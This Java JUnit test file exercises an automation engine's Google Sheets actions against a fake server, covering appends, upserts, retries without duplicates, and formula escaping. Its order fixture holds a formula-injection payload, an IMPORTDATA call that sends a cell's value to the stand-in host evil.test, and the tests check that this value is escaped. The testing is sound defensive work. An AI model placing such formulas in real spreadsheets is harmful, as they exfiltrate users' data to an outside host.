package dev.recipes.testkit.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.DeserializationFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.recipes.core.ActionStep;
import dev.recipes.core.Event;
import dev.recipes.core.Recipe;
import dev.recipes.core.Trigger;
import dev.recipes.sheets.GoogleSheets;
import dev.recipes.sheets.GoogleSheetsService;
import dev.recipes.sheets.ValueInputOption;
import dev.recipes.testkit.TestEngine;
import dev.recipes.testkit.junit.RecipeTest;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The actions append-rows, update-range, lookup-rows and upsert-row end to end: recipes in a
 * test engine, the Sheets client over loopback HTTP, and the fake Sheets server.
 */
@RecipeTest
final class SheetsActionsRecipeTest {

    private static final String SHEET = "1AbC";
    /** Parses as the engine does: decimals as BigDecimal. */
    private static final ObjectMapper JSON = new ObjectMapper()
            .enable(DeserializationFeature.USE_BIG_DECIMAL_FOR_FLOATS);
    private static final String ORDER = "{\"id\":\"A-42\",\"status\":\"open\",\"items\":["
            + "{\"sku\":\"S-1\",\"qty\":2,\"price\":19.99},"
            + "{\"sku\":\"=IMPORTDATA(\\\"https://evil.test/?\\\"&B2)\",\"qty\":1,"
            + "\"price\":0.1}]}";

    private final AtomicInteger events = new AtomicInteger();
    private final List<Event> results = new CopyOnWriteArrayList<>();
    private boolean watching;

    @BeforeEach
    void setUp(TestEngine engine, FakeSheetsServer sheets) {
        // Only the Sheets service: these recipes need no other.
        engine.customize(builder -> builder.discoverServices(false)
                .service(new GoogleSheetsService()));
        sheets.createSpreadsheet(SHEET, "Log", "Orders");
    }

    @Test
    void appendRows_writesOneRowPerItemInOneRequest(TestEngine engine, FakeSheetsServer sheets)
            throws Exception {
        engine.recipe(recipe("items", GoogleSheets.appendRows(SHEET, "Log!A:D")
                .forEach("/items")
                .column("/id")
                .itemColumn("/sku")
                .itemColumn("/qty")
                .itemColumn("/price")));

        publish(engine, ORDER);

        engine.assertThatAction("google-sheets", "append-rows").succeeded().hasAttempts(1);
        engine.assertThatSheet(sheets, SHEET, "Log").containsExactlyRows(
                List.of("A-42", "S-1", 2L, 19.99),
                List.of("A-42", "=IMPORTDATA(\"https://evil.test/?\"&B2)", 1L, 0.1));
        assertThat(sheets.appendRequests()).isEqualTo(1);
        assertThat(lastAppendBody(sheets)).contains("[\"A-42\",\"S-1\",2,19.99]");
    }

    @Test
    void appendRows_userEntered_keepsEventTextFromRunningAsAFormula(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        engine.recipe(recipe("items", GoogleSheets.appendRows(SHEET, "Log!A:B")
                .forEach("/items")
                .itemColumn("/sku")
                .itemColumn("/qty")
                .valueInputOption(ValueInputOption.USER_ENTERED)));

        publish(engine, ORDER);

        RecordedRequest append = sheets.requests().stream().filter(RecordedRequest::isAppend)
                .findFirst().orElseThrow();
        assertThat(append.query()).startsWith("valueInputOption=USER_ENTERED&");
        assertThat(append.body()).contains("\"'=IMPORTDATA(");
        // The fake, like Sheets, stores an apostrophe-led entry as the text after it.
        assertThat(sheets.rows(SHEET, "Log").get(1).get(0))
                .isEqualTo("=IMPORTDATA(\"https://evil.test/?\"&B2)");
    }

    @Test
    void appendRows_ambiguous503AfterTheWrite_isRetriedWithoutDuplicates(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        engine.recipe(recipe("items", GoogleSheets.appendRows(SHEET, "Log!A:B")
                .forEach("/items")
                .itemColumn("/sku")
                .itemColumn("/qty")
                .keyColumn("D")));
        sheets.failAfterWriteNextAppend(503);

        publishQuietly(engine, ORDER);
        engine.advance(Duration.ofMinutes(5));
        engine.awaitIdle();

        engine.assertThatAction("google-sheets", "append-rows").succeeded().hasAttempts(2);
        List<List<Object>> rows = sheets.rows(SHEET, "Log");
        assertThat(rows).hasSize(2);
        assertThat(rows).extracting(row -> row.get(3)).allSatisfy(key -> assertThat(key)
                .asString().contains("order-1"));
        assertThat(rows.get(0).get(3).toString()).endsWith("#0");
        assertThat(rows.get(1).get(3).toString()).endsWith("#1");
        assertThat(sheets.appendRequests()).isEqualTo(1);
        assertThat(sheets.readRequests()).isEqualTo(1);
        assertThat(result(engine, "append-rows").path("alreadyWrittenRows").asInt())
                .isEqualTo(2);
    }

    @Test
    void appendRows_withoutKeyColumn_theSameFaultWritesTheRowsTwice(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        engine.recipe(recipe("items", GoogleSheets.appendRows(SHEET, "Log!A:A")
                .forEach("/items")
                .itemColumn("/qty")));
        sheets.failAfterWriteNextAppend(503);

        publishQuietly(engine, ORDER);
        engine.advance(Duration.ofMinutes(5));
        engine.awaitIdle();

        engine.assertThatSheet(sheets, SHEET, "Log").hasRowCount(4);
    }

    @Test
    void tableDetection_shiftsANaiveAppend_butOurAnchoredRangeKeepsTheColumns(
            TestEngine engine, FakeSheetsServer sheets) throws Exception {
        // A sheet whose table starts in column B: column A is blank.
        String token = FakeClientFixture.accessToken(sheets, sheets.newServiceAccount(),
                engine.clock().instant());
        assertThat(call(sheets, token, "PUT", "Log!B1:C2", "?valueInputOption=RAW",
                "{\"values\":[[\"sku\",\"qty\"],[\"S-0\",5]]}").statusCode()).isEqualTo(200);
        engine.recipe(recipe("items", GoogleSheets.appendRows(SHEET, "Log!A:C")
                .forEach("/items")
                .column("/id")
                .itemColumn("/qty")
                .column("/status")));

        HttpResponse<String> naive = call(sheets, token, "POST", "Log!A:C",
                ":append?valueInputOption=RAW", "{\"values\":[[\"A-1\",9,\"naive\"]]}");
        publish(engine, ORDER);

        assertThat(JSON.readTree(naive.body()).path("updates").path("updatedRange").asText())
                .isEqualTo("Log!B3:D3");
        assertThat(sheets.rows(SHEET, "Log")).containsExactly(
                List.of("", "sku", "qty"),
                List.of("", "S-0", 5L),
                List.of("", "A-1", 9L, "naive"),
                List.of("A-42", 2L, "open"),
                List.of("A-42", 1L, "open"));
        assertThat(result(engine, "append-rows").path("updatedRange").asText())
                .isEqualTo("Log!A4:C5");
    }

    @Test
    void updateRange_writesTheNamedCells_withTheEventTimeAsTimestamp(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        engine.recipe(recipe("status", GoogleSheets.updateRange(SHEET, "Orders!B2:D2")
                .column("/status")
                .column(Event::time)
                .column("/items/1/sku")
                .valueInputOption(ValueInputOption.USER_ENTERED)));

        publish(engine, ORDER);
        publish(engine, ORDER);

        engine.assertThatActions().hasSize(2).allSucceeded();
        assertThat(sheets.rows(SHEET, "Orders")).containsExactly(
                List.of(),
                List.of("", "open", "2026-01-05T09:00:00Z",
                        "=IMPORTDATA(\"https://evil.test/?\"&B2)"));
        RecordedRequest update = sheets.requests().stream()
                .filter(request -> request.method().equals("PUT")).findFirst().orElseThrow();
        assertThat(update.body()).contains("\"'=IMPORTDATA(");
        assertThat(sheets.updateRequests()).isEqualTo(2);
        assertThat(result(engine, "update-range").path("updatedRange").asText())
                .isEqualTo("Orders!B2:D2");
    }

    @Test
    void lookupRows_findsEveryMatch_noneOrNothingOnAnEmptySheet(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        String token = FakeClientFixture.accessToken(sheets, sheets.newServiceAccount(),
                engine.clock().instant());
        call(sheets, token, "PUT", "Log!A1", "?valueInputOption=RAW", "{\"values\":["
                + "[\"id\",\"status\"],[\"A-42\",\"open\"],[\"A-7\",\"paid\"],"
                + "[\"A-42\",\"paid\"]]}");
        engine.recipe(recipe("find", GoogleSheets.lookupRows(SHEET, "Log!A2:B")
                .where("A", "/id")));
        engine.recipe(recipe("find-in-orders", GoogleSheets.lookupRows(SHEET, "Orders!A:B")
                .where("A", "/id")));

        publish(engine, ORDER);
        publish(engine, "{\"id\":\"A-99\"}");

        List<JsonNode> results = results(engine, "lookup-rows");
        assertThat(results).hasSize(4);
        assertThat(results).extracting(JsonNode::toString).containsExactlyInAnyOrder(
                "{\"rows\":[{\"row\":2,\"values\":[\"A-42\",\"open\"]},"
                        + "{\"row\":4,\"values\":[\"A-42\",\"paid\"]}],\"truncated\":false}",
                "{\"rows\":[],\"truncated\":false}",
                "{\"rows\":[],\"truncated\":false}",
                "{\"rows\":[],\"truncated\":false}");
    }

    @Test
    void upsertRow_updatesTheRowWithTheKey_elseAppends(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        String token = FakeClientFixture.accessToken(sheets, sheets.newServiceAccount(),
                engine.clock().instant());
        call(sheets, token, "PUT", "Orders!A1", "?valueInputOption=RAW",
                "{\"values\":[[\"id\",\"status\",\"note\"]]}");
        engine.recipe(recipe("orders", GoogleSheets.upsertRow(SHEET, "Orders!A2:C")
                .column("/id")
                .column("/status")
                .column("/note")
                .keyColumn("A")
                .valueInputOption(ValueInputOption.USER_ENTERED)));

        publish(engine, "{\"id\":\"A-1\",\"status\":\"open\",\"note\":\"new\"}");
        publish(engine, "{\"id\":\"A-2\",\"status\":\"open\",\"note\":null}");
        publish(engine, "{\"id\":\"A-1\",\"status\":\"paid\",\"note\":\"=1+1\"}");

        assertThat(sheets.rows(SHEET, "Orders")).containsExactly(
                List.of("id", "status", "note"),
                List.of("A-1", "paid", "=1+1"),
                List.of("A-2", "open", ""));
        assertThat(results(engine, "upsert-row")).extracting(r -> r.path("operation").asText())
                .containsExactly("appended", "appended", "updated");
        assertThat(sheets.requests().stream().filter(r -> r.method().equals("PUT"))
                .reduce((a, b) -> b).orElseThrow().body()).contains("\"'=1+1\"");
    }

    @Test
    void upsertRow_ambiguous503AfterTheAppend_isRetriedAsAnUpdate(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        engine.recipe(recipe("orders", GoogleSheets.upsertRow(SHEET, "Orders!A:B")
                .column("/id")
                .column("/status")
                .keyColumn("A")));
        sheets.failAfterWriteNextAppend(503);

        publishQuietly(engine, ORDER);
        engine.advance(Duration.ofMinutes(5));
        engine.awaitIdle();

        engine.assertThatAction("google-sheets", "upsert-row").succeeded().hasAttempts(2);
        assertThat(sheets.rows(SHEET, "Orders")).containsExactly(List.of("A-42", "open"));
        assertThat(result(engine, "upsert-row").path("operation").asText())
                .isEqualTo("updated");
        assertThat(sheets.appendRequests()).isEqualTo(1);
        assertThat(sheets.updateRequests()).isEqualTo(1);
    }

    @Test
    void upsertRow_twoRecipesUpsertingOneNewKeyAtOnce_appendItOnce(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        for (String id : List.of("first", "second")) {
            engine.recipe(recipe(id, GoogleSheets.upsertRow(SHEET, "Orders!A:B")
                    .column("/id")
                    .columnMapping(event -> JSON.getNodeFactory().textNode(id))
                    .keyColumn("A")));
        }

        publish(engine, ORDER);

        engine.assertThatActions().hasSize(2).allSucceeded();
        assertThat(sheets.rows(SHEET, "Orders")).hasSize(1);
        assertThat(results(engine, "upsert-row")).extracting(r -> r.path("operation").asText())
                .containsExactlyInAnyOrder("appended", "updated");
    }

    @Test
    void badParameters_failPermanentlyAtTheFirstAttempt(TestEngine engine,
            FakeSheetsServer sheets) throws Exception {
        engine.recipe(Recipe.named("generic")
                .when(Trigger.of("test.order"))
                .then(ActionStep.of("google-sheets", "update-range")
                        .constant("spreadsheetId", SHEET)
                        .constant("range", "Orders!A:B")
                        .constant("values", JSON.readTree("[\"x\"]"))
                        .build())
                .build());

        publish(engine, ORDER);

        engine.assertThatAction("google-sheets", "update-range").failed().hasAttempts(1)
                .hasErrorContaining("action 'google-sheets/update-range': range 'Orders!A:B' "
                        + "must start at a cell");
        assertThat(sheets.updateRequests()).isZero();
    }

    private static Recipe recipe(String id, ActionStep step) {
        return Recipe.named(id).when(Trigger.of("test.order")).then(step).build();
    }

    /** Publishes an order and waits until everything it caused has settled. */
    private void publish(TestEngine engine, String json) throws Exception {
        publishQuietly(engine, json);
        engine.awaitIdle();
    }

    /** Publishes an order and waits for what can run now, leaving retries waiting. */
    private void publishQuietly(TestEngine engine, String json) throws Exception {
        if (!watching) {
            watching = true;
            for (String action : List.of("append-rows", "update-range", "lookup-rows",
                    "upsert-row")) {
                engine.engine().bus().subscribe("result.google-sheets." + action
                        + ".succeeded", "sheets-actions-test", results::add);
            }
        }
        engine.publish(Event.builder("test.order")
                .id("order-" + events.incrementAndGet())
                .time(engine.clock().instant())
                .data(JSON.readTree(json))
                .build());
        engine.awaitQuiet();
    }

    private List<JsonNode> results(TestEngine engine, String action) {
        return results.stream()
                .filter(event -> event.type().equals("result.google-sheets." + action
                        + ".succeeded"))
                .map(event -> event.data().path("result")).toList();
    }

    private JsonNode result(TestEngine engine, String action) {
        List<JsonNode> results = results(engine, action);
        return results.get(results.size() - 1);
    }

    private static String lastAppendBody(FakeSheetsServer sheets) {
        return sheets.requests().stream().filter(RecordedRequest::isAppend)
                .reduce((a, b) -> b).orElseThrow().body();
    }

    private static HttpResponse<String> call(FakeSheetsServer sheets, String token,
            String method, String range, String suffix, String body) throws Exception {
        String encoded = range.replace("!", "%21").replace(":", "%3A");
        return FakeClientFixture.HTTP.send(HttpRequest.newBuilder(URI.create(sheets.apiUrl()
                        + "/v4/spreadsheets/" + SHEET + "/values/" + encoded + suffix))
                .header("Authorization", "Bearer " + token)
                .header("Content-Type", "application/json")
                .method(method, HttpRequest.BodyPublishers.ofString(body))
                .timeout(Duration.ofSeconds(10))
                .build(), HttpResponse.BodyHandlers.ofString());
    }
}
